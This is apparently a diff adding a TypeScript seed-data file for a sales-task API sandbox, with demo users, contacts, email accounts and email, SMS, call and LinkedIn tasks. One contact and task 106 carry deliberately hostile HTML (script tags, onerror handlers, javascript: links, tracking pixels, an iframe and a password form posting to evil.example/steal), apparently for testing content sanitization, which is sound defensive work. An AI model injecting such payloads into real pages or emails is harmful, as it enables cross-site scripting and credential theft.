@@ -1,0 +1,360 @@
+// The sandbox's seed data. Dates are relative to the moment of seeding so that "due" and
+// "overdue" stay true whenever the tests run.
+
+import { CreationSource, LinkedInTaskType, TaskStatus, TaskType } from './enums';
+
+export interface User {
+  id: number;
+  username: string;
+  apiKey: string;
+}
+
+export interface Contact {
+  id: number;
+  email: string;
+  phone: string;
+  firstName: string;
+  lastName: string;
+  company: string | null;
+  linkedInUrl: string | null;
+}
+
+export interface EmailAccount {
+  id: number;
+  ownerUserId: number;
+  email: string;
+  senderName: string;
+  isDefault: boolean;
+  connectionStatus: string;
+  signature: string;
+}
+
+export interface TaskTemplate {
+  subject: string | null;
+  body: string;
+  attachmentIdList: number[];
+}
+
+export interface DeliveryInfo {
+  email: string | null;
+  phoneNumber: string | null;
+  linkedInUrl: string | null;
+}
+
+/** A task as the sandbox stores it: the API's full task with integer enums and no `content`. */
+export interface Task {
+  id: number;
+  contactId: number | null;
+  taskType: number;
+  status: number;
+  linkedInTaskType: number | null;
+  sequenceId: number | null;
+  sequenceStepId: number | null;
+  sequenceStepDisplayName: string | null;
+  assignedUserId: number;
+  creationSource: number;
+  createdAt: string;
+  startAt: string;
+  dueTo: string;
+  finishedAt: string | null;
+  isFailed: boolean;
+  isScheduled: boolean;
+  template: TaskTemplate;
+  deliveryInfo: DeliveryInfo | null;
+}
+
+export interface World {
+  contacts: Contact[];
+  tasks: Map<number, Task>;
+  emailAccounts: EmailAccount[];
+}
+
+export const DEMO_USER: User = {
+  id: 1001,
+  username: 'demo.rep@example.com',
+  apiKey: 'demo-key-1001',
+};
+export const OTHER_USER: User = {
+  id: 2002,
+  username: 'other.rep@example.com',
+  apiKey: 'demo-key-2002',
+};
+export const USERS: readonly User[] = [DEMO_USER, OTHER_USER];
+
+/** Mail to this domain bounces, so executing a task addressed there ends with isFailed. */
+export const BOUNCING_DOMAIN = 'bounce.example';
+
+const CONTACTS: readonly Contact[] = [
+  contact(1, 'Jane', 'Doe', 'jane.doe@example.com', '+1 555 0100', 'Acme'),
+  contact(2, 'John', 'Roe', 'john.roe@example.com', '+1 555 0101', 'Globex'),
+  contact(3, 'Maria', 'Garcia', 'maria.garcia@example.org', '+1 555 0102', 'Initech'),
+  // No company: {{company}} renders empty.
+  contact(4, 'Li', 'Wei', 'li.wei@example.net', '+1 555 0103', null),
+  // Mixed-case address, to prove email lookups ignore case.
+  contact(5, 'Priya', 'Patel', 'Priya.Patel@Example.com', '+44 20 7946 0104', 'Umbrella Ltd'),
+  contact(6, 'Sam', 'Nobody', `sam.nobody@${BOUNCING_DOMAIN}`, '+1 555 0199', 'Defunct Corp'),
+  contact(7, 'Alex', 'Kim', 'alex.kim@example.com', '+1 555 0105', 'Hooli'),
+  // Contact data is attacker-controlled too: it flows into rendered content and fullName.
+  contact(
+    8,
+    'Mallory',
+    '<img src=x onerror="alert(\'lastName\')">',
+    'mallory@example.com',
+    '+1 555 0106',
+    'Evil <b>Corp</b>',
+  ),
+];
+
+const HOSTILE_SUBJECT = 'Re: your order </div><script>alert("subject")</script>';
+const HOSTILE_BODY = [
+  '<p>Hi {{firstName}},</p>',
+  '<img src=x onerror="alert(1)">',
+  "<script>alert('body')</script>",
+  '<p>Tracking <img src="https://tracker.example/p.gif" width="1" height="1"></p>',
+  '<p style="background:url(https://tracker.example/bg.png)">Styled paragraph</p>',
+  '<p><a href="javascript:alert(1)">Click here</a> or see <a href="https://example.com/pricing">pricing</a>.</p>',
+  '<style>* { display: none !important; }</style>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<form action="https://evil.example/steal"><input name="password"></form>',
+].join('\n');
+
+// The bulk "due queue" tasks 201-230 cycle through these. {{calendarLink}} is not a variable
+// the sandbox knows, so rendering leaves it as written.
+const QUEUE_CONTACT_IDS = [1, 2, 3, 4, 5];
+const QUEUE_EMAILS: readonly TaskTemplate[] = [
+  email(
+    '{{firstName}}, a quick idea for {{company}}',
+    '<p>Hi {{firstName}},</p><p>I had a quick idea for {{company}}. Worth a chat?</p>',
+  ),
+  email('Following up', '<p>Hi {{firstName}},</p><p>Just following up on my last note.</p>'),
+  email(
+    'Time next week?',
+    '<p>Hi {{firstName}},</p><p>Would any slot here work: {{calendarLink}}</p>',
+  ),
+];
+const QUEUE_SMS: readonly TaskTemplate[] = [
+  sms('Hi {{firstName}}, did you see my email? - Demo'),
+  sms('Hi {{firstName}}, quick call today about {{company}}?'),
+];
+
+export function seedWorld(now: number): World {
+  const at = (hours: number) => new Date(now + hours * 3_600_000).toISOString();
+  const contacts = CONTACTS.map((c) => ({ ...c }));
+  const contactsById = new Map(contacts.map((c) => [c.id, c]));
+
+  const tasks = new Map<number, Task>();
+  for (const { dueInHours, ...fields } of taskSeeds(at)) {
+    const to = fields.contactId === null ? undefined : contactsById.get(fields.contactId);
+    tasks.set(fields.id, {
+      linkedInTaskType: null,
+      sequenceId: null,
+      sequenceStepId: null,
+      sequenceStepDisplayName: null,
+      assignedUserId: DEMO_USER.id,
+      creationSource: fields.sequenceId ? CreationSource.sequence : CreationSource.user,
+      status: TaskStatus.new,
+      finishedAt: null,
+      isFailed: false,
+      isScheduled: false,
+      ...fields,
+      createdAt: at(dueInHours - 48),
+      startAt: at(dueInHours - 3),
+      dueTo: at(dueInHours),
+      deliveryInfo: deliveryInfo(fields.taskType, to),
+    });
+  }
+
+  return {
+    contacts,
+    tasks,
+    emailAccounts: [
+      account(1, DEMO_USER, 'Demo Rep', true),
+      account(2, DEMO_USER, 'Example Sales', false, 'sales@example.com'),
+      account(3, OTHER_USER, 'Other Rep', true),
+    ],
+  };
+}
+
+/** The minimum that makes a task; anything else of Task may be given to override a default. */
+type TaskSeed = Pick<Task, 'id' | 'taskType' | 'contactId' | 'template'> &
+  Partial<Task> & {
+    /** dueTo relative to now; negative means overdue. */
+    dueInHours: number;
+  };
+
+const SEQUENCE_EMAIL_STEP = {
+  sequenceId: 11,
+  sequenceStepId: 1102,
+  sequenceStepDisplayName: 'Step 2 - Email',
+};
+const SEQUENCE_SMS_STEP = {
+  sequenceId: 12,
+  sequenceStepId: 1203,
+  sequenceStepDisplayName: 'Step 3 - SMS',
+};
+
+function taskSeeds(at: (hours: number) => string): TaskSeed[] {
+  const seeds: TaskSeed[] = [
+    {
+      id: 101,
+      taskType: TaskType.manualEmail,
+      contactId: 1,
+      dueInHours: 2,
+      ...SEQUENCE_EMAIL_STEP,
+      template: email(
+        'Quick question, {{firstName}}',
+        '<p>Hi {{firstName}},</p><p>I noticed {{company}} is growing its sales team. Would a 15-minute call next week make sense?</p><p>Best,<br>Demo</p>',
+      ),
+    },
+    {
+      id: 102,
+      taskType: TaskType.manualEmail,
+      contactId: 2,
+      dueInHours: -26,
+      template: email(
+        'Following up on our chat',
+        '<p>Hi {{firstName}} {{lastName}},</p><p>Thanks for the call. As promised, here is the proposal for {{company}}.</p>',
+      ),
+    },
+    {
+      id: 103,
+      taskType: TaskType.sms,
+      contactId: 1,
+      dueInHours: 1,
+      ...SEQUENCE_SMS_STEP,
+      template: sms('Hi {{firstName}}, this is Demo from Example Co. Do you have 5 minutes today?'),
+    },
+    {
+      id: 104,
+      taskType: TaskType.call,
+      contactId: 2,
+      dueInHours: 3,
+      template: { subject: null, body: 'Ask about the Q3 budget.', attachmentIdList: [] },
+    },
+    {
+      id: 105,
+      taskType: TaskType.manualEmail,
+      contactId: 3,
+      dueInHours: -30,
+      status: TaskStatus.finished,
+      finishedAt: at(-24),
+      // Finished tasks keep the final content, not the raw template.
+      template: email(
+        'Intro for Maria',
+        '<p>Hi Maria,</p><p>Great to meet you at the conference.</p>',
+      ),
+    },
+    {
+      id: 106,
+      taskType: TaskType.manualEmail,
+      contactId: 8,
+      dueInHours: 4,
+      template: email(HOSTILE_SUBJECT, HOSTILE_BODY),
+    },
+    {
+      id: 107,
+      taskType: TaskType.manualEmail,
+      contactId: 6,
+      dueInHours: 5,
+      template: email('Checking in, {{firstName}}', '<p>Hi {{firstName}},</p><p>Checking in.</p>'),
+    },
+    {
+      id: 108,
+      taskType: TaskType.linkedIn,
+      linkedInTaskType: LinkedInTaskType.connect,
+      contactId: 4,
+      dueInHours: 6,
+      sequenceId: 11,
+      sequenceStepId: 1104,
+      sequenceStepDisplayName: 'Step 4 - LinkedIn',
+      template: { subject: null, body: 'Hi {{firstName}}, let us connect.', attachmentIdList: [] },
+    },
+    {
+      id: 109,
+      taskType: TaskType.manualEmail,
+      contactId: 7,
+      dueInHours: 2,
+      assignedUserId: OTHER_USER.id,
+      template: email('Hello {{firstName}}', '<p>Hi {{firstName}},</p><p>From the other rep.</p>'),
+    },
+  ];
+
+  // The "due queue": 30 new email/SMS tasks, the first eight overdue, the rest due every
+  // half hour; every fourth one is a one-off, the others come from sequences.
+  for (let i = 0; i < 30; i++) {
+    const isSms = i % 3 === 2;
+    seeds.push({
+      id: 201 + i,
+      taskType: isSms ? TaskType.sms : TaskType.manualEmail,
+      contactId: cycle(QUEUE_CONTACT_IDS, i),
+      dueInHours: (i - 8) * 0.5 - 0.25,
+      ...(i % 4 === 0 ? {} : isSms ? SEQUENCE_SMS_STEP : SEQUENCE_EMAIL_STEP),
+      isScheduled: i === 29,
+      template: { ...cycle(isSms ? QUEUE_SMS : QUEUE_EMAILS, i) },
+    });
+  }
+  return seeds;
+}
+
+function cycle<T>(list: readonly T[], i: number): T {
+  const item = list[i % list.length];
+  if (item === undefined) throw new Error('cycle() needs a non-empty list');
+  return item;
+}
+
+function contact(
+  id: number,
+  firstName: string,
+  lastName: string,
+  email: string,
+  phone: string,
+  company: string | null,
+): Contact {
+  const slug = `${firstName}-${lastName}`.toLowerCase().replace(/[^a-z-]/g, '');
+  const linkedInUrl = `https://www.linkedin.com/in/${slug}`;
+  return { id, email, phone, firstName, lastName, company, linkedInUrl };
+}
+
+function account(
+  id: number,
+  owner: User,
+  senderName: string,
+  isDefault: boolean,
+  email = owner.username,
+): EmailAccount {
+  const signature = `<p>--<br>${senderName}</p>`;
+  return {
+    id,
+    ownerUserId: owner.id,
+    email,
+    senderName,
+    isDefault,
+    connectionStatus: 'connected',
+    signature,
+  };
+}
+
+function email(subject: string, body: string): TaskTemplate {
+  return { subject, body, attachmentIdList: [] };
+}
+
+function sms(body: string): TaskTemplate {
+  return { subject: null, body, attachmentIdList: [] };
+}
+
+/** Where a task goes: email for ManualEmail, phone for Call/SMS, URL for LinkedIn. */
+function deliveryInfo(taskType: number, to: Contact | undefined): DeliveryInfo | null {
+  if (!to) return null;
+  const none = { email: null, phoneNumber: null, linkedInUrl: null };
+  switch (taskType) {
+    case TaskType.manualEmail:
+      return { ...none, email: to.email };
+    case TaskType.call:
+    case TaskType.sms:
+      return { ...none, phoneNumber: to.phone };
+    case TaskType.linkedIn:
+      return { ...none, linkedInUrl: to.linkedInUrl };
+    default:
+      return null;
+  }
+}
